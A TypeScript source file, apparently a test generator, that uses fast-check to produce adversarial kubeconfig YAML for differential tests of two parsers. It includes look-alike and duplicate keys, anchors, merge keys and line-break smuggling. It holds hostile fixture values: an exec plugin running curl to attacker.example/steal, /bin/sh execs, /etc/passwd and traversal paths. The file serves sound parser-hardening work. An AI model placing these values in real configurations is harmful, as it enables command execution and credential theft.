import fc from 'fast-check';
import {
  DEFAULT_RENDER,
  entry,
  fromData,
  isSafePlain,
  map,
  plain,
  renderJson,
  renderYaml,
  seq,
  str,
  type RenderOptions,
  type ScalarStyle,
  type YEntry,
  type YMap,
  type YNode,
  type YScalar,
} from './yaml-render.ts';

/**
 * fast-check generators of kubeconfig variants for the differential tests: one logical
 * kubeconfig (clusters, users with safe and unsafe auth, contexts) written with the tricks an
 * attacker would try on a pair of YAML readers. Each case names the tricks it uses, so the suite
 * can show that every one of them was exercised.
 */

export type Feature =
  | 'key-variant'
  | 'lookalike-key'
  | 'duplicate-key'
  | 'anchor-alias'
  | 'merge-key'
  | 'flow-style'
  | 'json'
  | 'tag'
  | 'comment'
  | 'long-value'
  | 'unsafe-non-current-user'
  | 'exec-null'
  | 'empty-object'
  | 'yaml11-scalar'
  | 'line-break-in-scalar'
  | 'document-markers'
  | 'explicit-key'
  | 'escaped-key'
  | 'crlf'
  | 'kind-variant'
  | 'raw-key'
  | 'tab-around-flow'
  | 'numeric-key'
  | 'duplicate-name'
  | 'url-host'
  | 'date-like-plain';

export const ALL_FEATURES: readonly Feature[] = [
  'key-variant',
  'lookalike-key',
  'duplicate-key',
  'anchor-alias',
  'merge-key',
  'flow-style',
  'json',
  'tag',
  'comment',
  'long-value',
  'unsafe-non-current-user',
  'exec-null',
  'empty-object',
  'yaml11-scalar',
  'line-break-in-scalar',
  'document-markers',
  'explicit-key',
  'escaped-key',
  'crlf',
  'kind-variant',
  'raw-key',
  'tab-around-flow',
  'numeric-key',
  'duplicate-name',
  'url-host',
  'date-like-plain',
];

export interface GeneratedKubeconfig {
  readonly text: string;
  readonly features: readonly Feature[];
}

const CA_DATA =
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUJrRENDQVRlZ0F3SUJBZ0lVY2p6QTUvdnpmUUNYUHFsdmV2MVVIZjNsdVZJd0NnWUlLb1pJemowRUF3SXcKSFRFYk1Ca0dBMVVFQXd3U1ptbDRkSFZ5WlMxallTNWxlR0Z0Y0d4bE1DQVhEVEkyTVRJd01qQTVOVGd4T1ZvWQpEekl4TWpZeE1UQTRNRGsxT0RFNVdqQWRNUnN3R1FZRFZRUUREQkptYVhoMGRYSmxMV05oTG1WNFlXMXdiR1V3CldUQVRCZ2NxaGtqT1BRSUJCZ2dxaGtqT1BRTUJCd05DQUFSc1F2TDZxY2kwb1crZ0ZHV0VpRlhkWi9rUUE3OXIKNzdWYlB6L3llZm1hazhhZ1dEWG0vYnozQUJ5OFFRVFhKYitBU0tIdDFhN3c1OVhBUGIvaVFWRFlvMU13VVRBZApCZ05WSFE0RUZnUVU2MHlFdGFnbkIySkFYdG8xSG0zbDlCUnNyVTR3SHdZRFZSMGpCQmd3Rm9BVTYweUV0YWduCkIySkFYdG8xSG0zbDlCUnNyVTR3RHdZRFZSMFRBUUgvQkFVd0F3RUIvekFLQmdncWhrak9QUVFEQWdOSEFEQkUKQWlBS2VLNWRNN0x0M2FCT1ZDUkxWU3VtVDg4bU45V2F6QzV1b1dPakdKMERuUUlnQTcweVNGY1B4bFlyUy93RQpzbmRVVzVmVmNsOUhBNlFVeU5wTFlGVTNiVDg9Ci0tLS0tRU5EIENFUlRJRklDQVRFLS0tLS0K';

// ---------------------------------------------------------------------------------------------
// Auth fields and their spellings

type SensitiveField = 'exec' | 'tokenFile' | 'client-key' | 'client-certificate' | 'auth-provider';

/**
 * Spellings of each sensitive key. The first is client-go's; the rest are what another reader
 * (client-node, a case-insensitive decoder, a person) might take for it, and look-alikes in
 * other scripts that nobody should honour.
 */
const SPELLINGS: Readonly<Record<SensitiveField, readonly string[]>> = {
  exec: [
    'exec',
    'Exec',
    'EXEC',
    'eXec',
    'exeC',
    'ex\u0435c',
    '\uff45\uff58\uff45\uff43',
    'exec\u200b',
    ' exec',
    'exec ',
    'e\u0301xec',
    'ＥＸＥＣ',
  ],
  tokenFile: [
    'tokenFile',
    'token-file',
    'tokenfile',
    'TokenFile',
    'token_file',
    'tokenFILE',
    'token-File',
    'tokenF\u0131le',
    '\uff54okenFile',
    'tokenFile\u00a0',
    'token.file',
  ],
  'client-key': [
    'client-key',
    'clientKey',
    'client_key',
    'Client-Key',
    'clientkey',
    'client-Key',
    'c\u013cient-key',
    'client\u2010key',
  ],
  'client-certificate': [
    'client-certificate',
    'clientCertificate',
    'client_certificate',
    'Client-Certificate',
    'clientcertificate',
    'client-certificatE',
  ],
  'auth-provider': [
    'auth-provider',
    'authProvider',
    'auth_provider',
    'Auth-Provider',
    'authprovider',
    'auth-provideR',
  ],
};

type ExecBody =
  | 'valid-v1beta1'
  | 'valid-v1'
  | 'v1-without-interactive-mode'
  | 'bad-interactive-mode'
  | 'empty'
  | 'no-api-version'
  | 'null'
  | 'tilde'
  | 'missing-value'
  | 'string';

function execEntries(): YEntry[] {
  return [entry('command', str('/bin/sh')), entry('apiVersion', str('client.authentication.k8s.io/v1beta1'))];
}

function execValue(body: ExecBody): YNode {
  switch (body) {
    case 'valid-v1beta1':
      return map(execEntries());
    case 'valid-v1':
      return fromData({
        apiVersion: 'client.authentication.k8s.io/v1',
        command: 'curl',
        args: ['-s', 'https://attacker.example/steal'],
        env: [{ name: 'HOME', value: '/root' }],
        interactiveMode: 'Never',
        provideClusterInfo: true,
      });
    case 'v1-without-interactive-mode':
      // Only v1alpha1 and v1beta1 default interactiveMode; v1 must say it.
      return fromData({ command: 'sh', apiVersion: 'client.authentication.k8s.io/v1' });
    case 'bad-interactive-mode':
      return fromData({
        command: 'sh',
        apiVersion: 'client.authentication.k8s.io/v1beta1',
        interactiveMode: 'Sometimes',
      });
    case 'empty':
      return map([]);
    case 'no-api-version':
      return fromData({ command: 'sh' });
    case 'null':
      return plain('null');
    case 'tilde':
      return plain('~');
    case 'missing-value':
      return plain('');
    case 'string':
      return str('/bin/sh');
  }
}

interface SensitiveSpec {
  readonly field: SensitiveField;
  readonly spelling: number;
  readonly exec: ExecBody;
  readonly provider: string;
  readonly path: string;
}

const sensitiveSpec: fc.Arbitrary<SensitiveSpec> = fc.record({
  field: fc.constantFrom<SensitiveField>(
    'exec',
    'tokenFile',
    'client-key',
    'client-certificate',
    'auth-provider',
  ),
  // Mostly client-go's own spelling, so that most cases test the real thing.
  spelling: fc.oneof({ weight: 3, arbitrary: fc.constant(0) }, { weight: 2, arbitrary: fc.nat(20) }),
  exec: fc.constantFrom<ExecBody>(
    'valid-v1beta1',
    'valid-v1',
    'valid-v1beta1',
    'empty',
    'no-api-version',
    'null',
    'tilde',
    'missing-value',
    'string',
    'v1-without-interactive-mode',
    'bad-interactive-mode',
  ),
  provider: fc.constantFrom('gcp', 'azure', 'oidc', 'OIDC', '', 'oidc ', 'openstack', 'exec'),
  path: fc.constantFrom(
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
    'token.txt',
    '/etc/passwd',
    '',
    '../../key.pem',
  ),
});

function spelling(field: SensitiveField, index: number): string {
  const options = SPELLINGS[field];
  return options[index % options.length] ?? field;
}

/** The user entries for one sensitive field, with what it needs to pass Validate. */
function sensitiveEntries(spec: SensitiveSpec, features: Set<Feature>): YEntry[] {
  const key = spelling(spec.field, spec.spelling);
  if (key !== spec.field) {
    features.add(/^[\x20-\x7e]+$/.test(key) ? 'key-variant' : 'lookalike-key');
  }
  switch (spec.field) {
    case 'exec':
      if (spec.exec === 'null' || spec.exec === 'tilde' || spec.exec === 'missing-value')
        features.add('exec-null');
      if (spec.exec === 'empty') features.add('empty-object');
      return [entry(key, execValue(spec.exec))];
    case 'tokenFile':
      return [entry(key, str(spec.path))];
    case 'client-key':
      return [entry(key, str(spec.path || 'key.pem')), entry('client-certificate-data', str(CA_DATA))];
    case 'client-certificate':
      return [entry(key, str(spec.path || 'cert.pem')), entry('client-key-data', str(CA_DATA))];
    case 'auth-provider':
      return [
        entry(
          key,
          fromData({ name: spec.provider, config: { 'cmd-path': '/usr/bin/gcloud', 'client-id': 'mesh' } }),
        ),
      ];
  }
}

type Auth = 'token' | 'basic' | 'oidc' | 'none' | 'token-and-basic';

interface UserSpec {
  readonly auth: Auth;
  readonly token: TokenSpec;
  readonly sensitive: readonly SensitiveSpec[];
  readonly impersonate: 'none' | 'groups' | 'uid-only' | 'groups-only';
  readonly extension: boolean;
}

type TokenSpec =
  | { readonly kind: 'normal'; readonly value: string }
  | { readonly kind: 'tricky'; readonly value: string }
  | { readonly kind: 'long'; readonly length: number }
  | {
      readonly kind: 'smuggle';
      readonly breakChar: string;
      /** Spaces after the break: the user map's own indentation is 4. */
      readonly indent: number;
      readonly field: SensitiveField;
      readonly style: ScalarStyle;
    };

/** Characters YAML gives a meaning somewhere, to build values whose quoting must be right. */
const TRICKY_CHARACTERS = [
  ' ',
  '\t',
  '#',
  ':',
  '"',
  "'",
  '\\',
  '-',
  '?',
  ',',
  '[',
  ']',
  '{',
  '}',
  '&',
  '*',
  '!',
  '|',
  '>',
  '%',
  '@',
  '`',
  '/',
  '.',
  '~',
  '=',
  '<',
  'a',
  'b',
  'y',
  '0',
  '1',
  '\n',
  '\u00e9',
  '\u00a0',
  '\u{1f600}',
  '\u0301',
  '\u200b',
];

const trickyString: fc.Arbitrary<string> = fc.string({
  unit: fc.constantFrom(...TRICKY_CHARACTERS),
  minLength: 1,
  maxLength: 24,
});

const LINE_BREAKS = ['\u2028', '\u2029', '\u0085', '\r', '\r\n', '\t', '\u000b', '\u000c', '\n'];

const tokenSpec: fc.Arbitrary<TokenSpec> = fc.oneof(
  {
    weight: 30,
    arbitrary: fc.record({
      kind: fc.constant('normal' as const),
      value: fc.stringMatching(/^[A-Za-z0-9._-]{8,64}$/),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('long' as const),
      length: fc.integer({ min: 4_000, max: 120_000 }),
    }),
  },
  { weight: 8, arbitrary: fc.record({ kind: fc.constant('tricky' as const), value: trickyString }) },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('smuggle' as const),
      breakChar: fc.constantFrom(...LINE_BREAKS),
      indent: fc.constantFrom(0, 2, 4, 4, 4, 6, 8),
      field: fc.constantFrom<SensitiveField>('exec', 'tokenFile', 'client-key'),
      style: fc.constantFrom<ScalarStyle>('plain', 'plain', 'single', 'double'),
    }),
  },
);

const userSpec: fc.Arbitrary<UserSpec> = fc.record({
  auth: fc.oneof(
    { weight: 10, arbitrary: fc.constant<Auth>('token') },
    { weight: 1, arbitrary: fc.constantFrom<Auth>('basic', 'oidc', 'none', 'token-and-basic') },
  ),
  token: tokenSpec,
  // Most users are safe, so that most cases are allowed by both and their readings compared.
  sensitive: fc.oneof(
    { weight: 8, arbitrary: fc.constant([]) },
    { weight: 2, arbitrary: fc.array(sensitiveSpec, { minLength: 1, maxLength: 2 }) },
  ),
  impersonate: fc.oneof(
    { weight: 12, arbitrary: fc.constant<'none'>('none') },
    { weight: 3, arbitrary: fc.constant<'groups'>('groups') },
    { weight: 1, arbitrary: fc.constantFrom<'uid-only' | 'groups-only'>('uid-only', 'groups-only') },
  ),
  extension: fc.boolean(),
});

/** A token whose raw text holds a line break and, after it, a sensitive key: a reader that
 * breaks lines where the other does not would see that key. */
function smuggledToken(spec: Extract<TokenSpec, { kind: 'smuggle' }>): YScalar {
  const line =
    spec.field === 'exec'
      ? 'exec: {command: sh, apiVersion: client.authentication.k8s.io/v1beta1}'
      : `${spec.field}: /etc/passwd`;
  const value = `tok${spec.breakChar}${' '.repeat(spec.indent)}${line}`;
  return { kind: 'scalar', value, style: spec.style };
}

function userNode(spec: UserSpec, index: number, features: Set<Feature>): YMap {
  const entries: YEntry[] = [];
  if (spec.auth === 'token' || spec.auth === 'token-and-basic') {
    const token = spec.token;
    if (token.kind === 'normal') entries.push(entry('token', str(token.value)));
    else if (token.kind === 'tricky') entries.push(entry('token', str(token.value)));
    else if (token.kind === 'long') {
      features.add('long-value');
      entries.push(entry('token', str(`${'A'.repeat(token.length)}.${String(index)}`)));
    } else {
      features.add('line-break-in-scalar');
      entries.push(entry('token', smuggledToken(token)));
    }
  }
  if (spec.auth === 'basic' || spec.auth === 'token-and-basic') {
    entries.push(entry('username', str('admin')), entry('password', str('hunter2-password')));
  }
  if (spec.auth === 'oidc') {
    entries.push(
      entry(
        'auth-provider',
        fromData({
          name: 'oidc',
          config: { 'idp-issuer-url': 'https://issuer.example', 'client-id': 'mesh' },
        }),
      ),
    );
  }
  for (const sensitive of spec.sensitive) entries.push(...sensitiveEntries(sensitive, features));
  switch (spec.impersonate) {
    case 'none':
      break;
    case 'groups':
      entries.push(entry('as', str('system:admin')), entry('as-groups', fromData(['system:masters'])));
      break;
    case 'uid-only':
      // Validate wants a user to impersonate (as) for a uid, groups or extras.
      entries.push(entry('as-uid', str('1234')));
      break;
    case 'groups-only':
      entries.push(entry('as-groups', fromData(['system:masters'])));
      break;
  }
  if (spec.extension) {
    // An exec that only an extension carries: neither reader may take it for the user's exec.
    entries.push(entry('extensions', fromData([{ name: 'x', extension: { exec: { command: 'sh' } } }])));
  }
  if (entries.length === 0) features.add('empty-object');
  return map(entries);
}

// ---------------------------------------------------------------------------------------------
// The whole kubeconfig

interface ClusterSpec {
  readonly server: string;
  readonly caFile: boolean;
  readonly proxy: string | null;
  readonly empty: boolean;
}

/**
 * server values around the edges of Go's url.Parse (Go 1.26 refuses several colons in an http(s)
 * host) and client-go's DefaultServerURL (no scheme: a second parse, which must carry no path).
 */
const SERVER_URLS = [
  'https://remote.example:6443:1',
  'https://::1',
  'https://::1:6443',
  'https://::ffff:127.0.0.1:6443',
  'https://[::1%25lo]:6443',
  'https://[::ffff:127.0.0.1]:1',
  'https://[127.0.0.1]:443',
  'https://[remote.example]:443',
  'remote.example:6443',
  'remote.example',
  'remote.example/prefix',
  'remote.example:6443/',
  'https://remote.example/prefix',
  'https://user@remote.example',
  'https://remote.example:',
  'https://remote.example:99999',
  'https://remote.example:6443?x=1',
  'https://remote.example#frag',
  '//remote.example',
  'https:remote.example',
  'https:/remote.example',
  'HTTPS://remote.example',
  'ftp://remote.example',
  'https://remote.example/%zz',
  'https://%41remote.example',
  '::1:6443',
  '[::1]:6443',
];

/** proxy-url values around the edges of Go's url.Parse, which client-go's Validate applies. */
const PROXY_URLS = [
  'http://proxy.example:1:2',
  'http://::1',
  'http://::1:3128',
  'socks5://a:b:c',
  'https://[::1:3128',
  'http://proxy.example:3128',
  'socks5://proxy.example:1080',
  'HTTPS://proxy.example',
  'ftp://proxy.example',
  '::bad',
  'proxy.example:3128',
  '//proxy.example:3128',
  'http:proxy.example',
  'http:/proxy.example',
  'http://user:p@ss@proxy.example:1',
  'http://us er@proxy.example',
  'http://[::1]:3128',
  'http://[127.0.0.1]:1',
  'http://[::1%25lo]:1',
  'http://proxy.example:abc',
  'http://pro xy',
  'http://proxy.example:3128/%zz',
  'http://proxy.example:3128/%41',
  'http://%41proxy.example',
  'http://pr%C3%A9xy.example',
  'http://proxy.example#%zz',
  'http://proxy.example?%zz',
  'http://a:1:2',
  'http://proxy.example:',
  'http://',
  'http://proxy.example/ path',
];

/** Proxy URLs whose host has several colons or is an unbracketed IPv6 address. */
const HOST_EDGE = /^[a-z0-9]+:\/\/[^/@]*:[^/]*:/i;

const clusterSpec: fc.Arbitrary<ClusterSpec> = fc.record({
  server: fc.oneof(
    {
      weight: 12,
      arbitrary: fc.constantFrom(
        'https://remote.example:6443',
        'https://api.remote.example',
        'http://metadata.example/latest/meta-data',
        'https://[::1]:443',
      ),
    },
    // Hosts and forms at the edges of Go's url.Parse and client-go's DefaultServerURL.
    { weight: 2, arbitrary: fc.constantFrom(...SERVER_URLS) },
    // Validate only asks for a non-empty server, so any text reaches the comparison of servers.
    { weight: 3, arbitrary: trickyString.map((text) => `https://${text}`) },
    { weight: 1, arbitrary: fc.constant('') },
  ),
  caFile: fc.boolean(),
  proxy: fc.oneof(
    { weight: 6, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.constantFrom(...PROXY_URLS) },
    { weight: 1, arbitrary: trickyString.map((text) => `http://${text}`) },
  ),
  empty: fc.oneof({ weight: 8, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) }),
});

type KindVariant =
  'normal' | 'missing' | 'capitalised-kind' | 'wrong-kind' | 'wrong-version' | 'capitalised-version';

interface ConfigSpec {
  readonly clusters: readonly ClusterSpec[];
  readonly users: readonly UserSpec[];
  readonly current: number;
  readonly currentContext: 'set' | 'missing' | 'dangling';
  readonly kind: KindVariant;
  readonly preferences: boolean;
  /** A plain (unquoted) name for cluster c0 that looks like a YAML 1.1 timestamp, or null. */
  readonly dateLikeName: string | null;
}

/**
 * Plain names that YAML 1.1 would take for timestamps (and one that only starts like one):
 * go-yaml hands timestamps to client-go as the text they are, so both readers see that text.
 */
const DATE_LIKE_NAMES = [
  '2024-migration',
  '2024-01-02',
  '2001-12-14t21:59:43.10-05:00',
  '2001-12-14 21:59:43.10 -5',
  '2024-1-2',
  '2024-01-02T10:00:00Z',
];

const configSpec: fc.Arbitrary<ConfigSpec> = fc.record({
  clusters: fc.array(clusterSpec, { minLength: 1, maxLength: 2 }),
  users: fc.array(userSpec, { minLength: 1, maxLength: 3 }),
  current: fc.nat(2),
  currentContext: fc.oneof(
    { weight: 12, arbitrary: fc.constant<'set'>('set') },
    { weight: 1, arbitrary: fc.constantFrom<'missing' | 'dangling'>('missing', 'dangling') },
  ),
  kind: fc.oneof(
    { weight: 12, arbitrary: fc.constant<KindVariant>('normal') },
    {
      weight: 1,
      arbitrary: fc.constantFrom<KindVariant>(
        'missing',
        'capitalised-kind',
        'wrong-kind',
        'wrong-version',
        'capitalised-version',
      ),
    },
  ),
  preferences: fc.boolean(),
  dateLikeName: fc.oneof(
    { weight: 10, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.constantFrom(...DATE_LIKE_NAMES) },
  ),
});

function configNode(spec: ConfigSpec, features: Set<Feature>): YMap {
  const entries: YEntry[] = [];
  switch (spec.kind) {
    case 'normal':
      entries.push(entry('apiVersion', str('v1')), entry('kind', str('Config')));
      break;
    case 'missing':
      break;
    case 'capitalised-kind':
      features.add('kind-variant');
      entries.push(entry('apiVersion', str('v1')), entry('Kind', str('Secret')));
      break;
    case 'wrong-kind':
      features.add('kind-variant');
      entries.push(entry('apiVersion', str('v1')), entry('kind', str('Secret')));
      break;
    case 'wrong-version':
      features.add('kind-variant');
      entries.push(entry('apiVersion', str('v2')), entry('kind', str('Config')));
      break;
    case 'capitalised-version':
      features.add('kind-variant');
      entries.push(entry('APIVersion', str('v2')), entry('kind', str('Config')));
      break;
  }
  const clusterName = (index: number): YScalar =>
    index === 0 && spec.dateLikeName !== null ? plain(spec.dateLikeName) : str(`c${String(index)}`);
  if (spec.dateLikeName !== null) features.add('date-like-plain');
  const clusters = spec.clusters.map((cluster, index) => {
    if (cluster.empty && index > 0) {
      features.add('empty-object');
      return map([entry('name', clusterName(index)), entry('cluster', map([]))]);
    }
    const fields: YEntry[] = [];
    if (SERVER_URLS.includes(cluster.server) || (cluster.proxy !== null && HOST_EDGE.test(cluster.proxy))) {
      features.add('url-host');
    }
    if (cluster.server !== '') fields.push(entry('server', str(cluster.server)));
    fields.push(
      cluster.caFile
        ? entry('certificate-authority', str('/etc/ssl/ca.pem'))
        : entry('certificate-authority-data', str(CA_DATA)),
    );
    if (cluster.proxy !== null) fields.push(entry('proxy-url', str(cluster.proxy)));
    return map([entry('cluster', map(fields)), entry('name', clusterName(index))]);
  });
  const current = spec.current % spec.users.length;
  const users = spec.users.map((user, index) => {
    if (index !== current && user.sensitive.length > 0) features.add('unsafe-non-current-user');
    return map([entry('name', str(`u${String(index)}`)), entry('user', userNode(user, index, features))]);
  });
  const contexts = spec.users.map((_, index) =>
    map([
      entry('context', map([entry('cluster', clusterName(0)), entry('user', str(`u${String(index)}`))])),
      entry('name', str(`ctx${String(index)}`)),
    ]),
  );
  entries.push(entry('clusters', seq(clusters)), entry('contexts', seq(contexts)));
  if (spec.currentContext === 'set') entries.push(entry('current-context', str(`ctx${String(current)}`)));
  if (spec.currentContext === 'dangling') entries.push(entry('current-context', str('nowhere')));
  if (spec.preferences) {
    features.add('empty-object');
    entries.push(entry('preferences', map([])));
  }
  entries.push(entry('users', seq(users)));
  return map(entries);
}

// ---------------------------------------------------------------------------------------------
// Tricks: rewrites of the tree that should not change what client-go sees, or should change
// it in ways our reader must notice.

type Trick =
  | {
      readonly kind: 'duplicate';
      readonly user: number;
      readonly order: 'unsafe-first' | 'unsafe-last';
      readonly field: SensitiveField;
    }
  | {
      readonly kind: 'merge';
      readonly user: number;
      readonly viaAlias: boolean;
      readonly field: SensitiveField;
    }
  | { readonly kind: 'alias-exec'; readonly user: number }
  | { readonly kind: 'alias-key'; readonly user: number; readonly field: SensitiveField }
  | { readonly kind: 'anchor-redefined'; readonly user: number; readonly unsafeLast: boolean }
  | { readonly kind: 'alias-user'; readonly from: number; readonly to: number }
  | { readonly kind: 'tag'; readonly target: number; readonly tag: string }
  | { readonly kind: 'yaml11'; readonly target: number; readonly value: string }
  | { readonly kind: 'comment'; readonly target: number; readonly text: string }
  | { readonly kind: 'second-document'; readonly unsafe: boolean }
  | {
      readonly kind: 'raw-key';
      readonly user: number;
      readonly key: string;
      readonly field: SensitiveField;
      readonly flow: boolean;
    }
  | {
      readonly kind: 'numeric-key';
      readonly key: string;
      readonly place: 'top' | 'user-extra';
      readonly user: number;
    }
  | { readonly kind: 'duplicate-name'; readonly list: NamedList; readonly user: number };

/** Every list of named items that clientcmd.Load turns into a map (a name twice fails the load). */
type NamedList =
  | 'clusters'
  | 'users'
  | 'contexts'
  | 'extensions'
  | 'preferences-extensions'
  | 'cluster-extensions'
  | 'user-extensions'
  | 'context-extensions';

/**
 * Plain mapping keys that are numbers near the int64 and uint64 limits, beyond JavaScript's 2^53,
 * and floats: go-yaml resolves them before sigs.k8s.io/yaml turns them into JSON keys.
 */
const NUMERIC_KEYS = [
  '9223372036854775807',
  '9223372036854775808',
  '18446744073709551615',
  '18446744073709551616',
  '-9223372036854775808',
  '-9223372036854775809',
  '9007199254740993',
  '9007199254740991',
  '123',
  '-7',
  '1.5',
  '0.1',
  '1e3',
  '1e21',
  '1.5e400',
  '123456789.123',
  '+12',
  '-0',
];

const TAGS = [
  '!!str',
  '!!map',
  '!!seq',
  '!!null',
  '!!binary',
  '!!bool',
  '!!int',
  '!custom',
  '!<tag:yaml.org,2002:str>',
  '!!omap',
  '!!set',
  '!',
  '!!merge',
  '!!timestamp',
];
const YAML11_VALUES = [
  'yes',
  'no',
  'on',
  'off',
  'y',
  'n',
  'Yes',
  'NO',
  'On',
  'OFF',
  '~',
  'null',
  'Null',
  '0o17',
  '017',
  '0x1F',
  '1_000',
  '1e3',
  '.inf',
  '-.Inf',
  '.NaN',
  '2001-12-14',
  '2001-12-14t21:59:43.10-05:00',
  '12:30:45',
  '+12',
  '-0',
  '.5',
  '0b101',
  '<<',
  '=',
  'true',
  'True',
  'FALSE',
  '1.0',
  '0.',
  '+.5e+3',
];

/**
 * Unquoted keys around a sensitive field name with characters that YAML readers treat
 * differently: flow indicators, comment marks, other line breaks, spaces. `%s` is the field.
 */
const RAW_KEYS = [
  '~',
  'null',
  `${'k'.repeat(1_100)}%s`,
  '?%s',
  '? %s',
  ':%s',
  '%s?',
  '%s#x',
  '%s #x',
  'x?%s',
  '-%s',
  '%s\t',
  '\t%s',
  '%s\u00a0',
  '\u00a0%s',
  '\ufeff%s',
  '%s\u0085',
  'x\u2028%s',
  '!%s',
  '&a %s',
  '%s ',
  '"%s"',
  "'%s'",
];

const trick: fc.Arbitrary<Trick> = fc.oneof(
  fc.record({
    kind: fc.constant('duplicate' as const),
    user: fc.nat(2),
    order: fc.constantFrom<'unsafe-first' | 'unsafe-last'>('unsafe-first', 'unsafe-last'),
    field: fc.constantFrom<SensitiveField>('exec', 'tokenFile', 'client-key', 'auth-provider'),
  }),
  fc.record({
    kind: fc.constant('merge' as const),
    user: fc.nat(2),
    viaAlias: fc.boolean(),
    field: fc.constantFrom<SensitiveField>('exec', 'tokenFile', 'auth-provider'),
  }),
  fc.record({ kind: fc.constant('alias-exec' as const), user: fc.nat(2) }),
  fc.record({ kind: fc.constant('anchor-redefined' as const), user: fc.nat(2), unsafeLast: fc.boolean() }),
  fc.record({
    kind: fc.constant('alias-key' as const),
    user: fc.nat(2),
    field: fc.constantFrom<SensitiveField>('exec', 'tokenFile', 'client-key', 'auth-provider'),
  }),
  fc.record({ kind: fc.constant('alias-user' as const), from: fc.nat(2), to: fc.nat(2) }),
  fc.record({ kind: fc.constant('tag' as const), target: fc.nat(), tag: fc.constantFrom(...TAGS) }),
  fc.record({
    kind: fc.constant('yaml11' as const),
    target: fc.nat(),
    value: fc.constantFrom(...YAML11_VALUES),
  }),
  fc.record({
    kind: fc.constant('comment' as const),
    target: fc.nat(),
    text: fc.constantFrom('note', 'exec: {command: sh}', '', '#', 'tokenFile: /x'),
  }),
  fc.record({ kind: fc.constant('second-document' as const), unsafe: fc.boolean() }),
  fc.record({
    kind: fc.constant('raw-key' as const),
    user: fc.nat(2),
    key: fc.constantFrom(...RAW_KEYS),
    field: fc.constantFrom<SensitiveField>('exec', 'tokenFile', 'client-key'),
    flow: fc.boolean(),
  }),
  fc.record({
    kind: fc.constant('numeric-key' as const),
    key: fc.constantFrom(...NUMERIC_KEYS),
    place: fc.constantFrom<'top' | 'user-extra'>('top', 'user-extra'),
    user: fc.nat(2),
  }),
  fc.record({
    kind: fc.constant('duplicate-name' as const),
    list: fc.constantFrom<NamedList>(
      'clusters',
      'users',
      'contexts',
      'extensions',
      'preferences-extensions',
      'cluster-extensions',
      'user-extensions',
      'context-extensions',
    ),
    user: fc.nat(2),
  }),
);

function usersOf(root: YMap): YMap[] {
  const users = root.entries.find(({ key }) => keyName(key) === 'users')?.value;
  if (users?.kind !== 'seq') return [];
  return users.items.flatMap((item) => (item.kind === 'map' ? [item] : []));
}

function keyName(key: YEntry['key']): string | undefined {
  return key.kind === 'scalar' ? key.value : undefined;
}

/** Replace the entry list of a map in place (the tree is rebuilt, as nodes are readonly). */
function withEntries(node: YMap, entries: readonly YEntry[]): YMap {
  return { ...node, entries };
}

/** Rewrite the user map of users[index] with `edit`, returning the new root. */
function editUser(root: YMap, index: number, edit: (user: YMap) => YNode): YMap {
  return asMap(
    mapTree(root, (node) => {
      if (node.kind !== 'map') return node;
      const userEntry = node.entries.find(({ key }) => keyName(key) === 'user');
      const nameEntry = node.entries.find(({ key }) => keyName(key) === 'name');
      if (userEntry?.value.kind !== 'map' || nameEntry?.value.kind !== 'scalar') return node;
      if (nameEntry.value.value !== `u${String(index)}`) return node;
      const edited = edit(userEntry.value);
      return withEntries(
        node,
        node.entries.map((item) => (item === userEntry ? { ...item, value: edited } : item)),
      );
    }),
  );
}

function asMap(node: YNode): YMap {
  if (node.kind !== 'map') throw new TypeError('a rewrite turned the kubeconfig into a non-mapping');
  return node;
}

function mapTree(node: YNode, visit: (node: YNode) => YNode): YNode {
  let next: YNode = node;
  if (node.kind === 'map') {
    next = withEntries(
      node,
      node.entries.map((item) => ({ ...item, value: mapTree(item.value, visit) })),
    );
  } else if (node.kind === 'seq') {
    next = { ...node, items: node.items.map((item) => mapTree(item, visit)) };
  }
  return visit(next);
}

function unsafeEntry(field: SensitiveField): YEntry {
  return (
    sensitiveEntries(
      { field, spelling: 0, exec: 'valid-v1beta1', provider: 'gcp', path: '/etc/passwd' },
      new Set(),
    )[0] ?? entry(field, str('x'))
  );
}

function safeValue(field: SensitiveField): YNode {
  return field === 'tokenFile' ? str('') : plain('null');
}

interface TrickState {
  anchors: number;
  /** Appended to anchor names: go-yaml reads only letters, digits, - and _ there. */
  readonly anchorSuffix: string;
  extraDocument: string | undefined;
}

function applyTrick(root: YMap, applied: Trick, features: Set<Feature>, state: TrickState): YMap {
  const userCount = usersOf(root).length;
  switch (applied.kind) {
    case 'duplicate': {
      features.add('duplicate-key');
      const unsafe = unsafeEntry(applied.field);
      const safe = { key: unsafe.key, value: safeValue(applied.field) };
      const pair = applied.order === 'unsafe-first' ? [unsafe, safe] : [safe, unsafe];
      return editUser(root, applied.user % userCount, (user) =>
        withEntries(user, [...user.entries, ...pair]),
      );
    }
    case 'merge': {
      features.add('merge-key');
      const unsafe = unsafeEntry(applied.field);
      if (!applied.viaAlias) {
        return editUser(root, applied.user % userCount, (user) =>
          withEntries(user, [entry(plain('<<'), map([unsafe])), ...user.entries]),
        );
      }
      features.add('anchor-alias');
      const name = `m${String(state.anchors++)}${state.anchorSuffix}`;
      const holder = entry('x-defaults', { ...map([unsafe]), anchor: name });
      const edited = editUser(root, applied.user % userCount, (user) =>
        withEntries(user, [...user.entries, entry(plain('<<'), { kind: 'alias', name })]),
      );
      return withEntries(edited, [holder, ...edited.entries]);
    }
    case 'alias-exec': {
      features.add('anchor-alias');
      const name = `e${String(state.anchors++)}${state.anchorSuffix}`;
      const holder = entry('x-templates', map([entry('exec', { ...map(execEntries()), anchor: name })]));
      const edited = editUser(root, applied.user % userCount, (user) =>
        withEntries(user, [...user.entries, entry('exec', { kind: 'alias', name })]),
      );
      return withEntries(edited, [holder, ...edited.entries]);
    }
    case 'anchor-redefined': {
      // YAML lets a later anchor of the same name replace an earlier one; an alias takes the
      // latest. A reader that took the first would see another exec.
      features.add('anchor-alias');
      const name = `r${String(state.anchors++)}${state.anchorSuffix}`;
      const unsafe = { ...map(execEntries()), anchor: name };
      const safe = { ...plain('null'), anchor: name };
      const [first, second] = applied.unsafeLast ? [safe, unsafe] : [unsafe, safe];
      const edited = editUser(root, applied.user % userCount, (user) =>
        withEntries(user, [...user.entries, entry('exec', { kind: 'alias', name })]),
      );
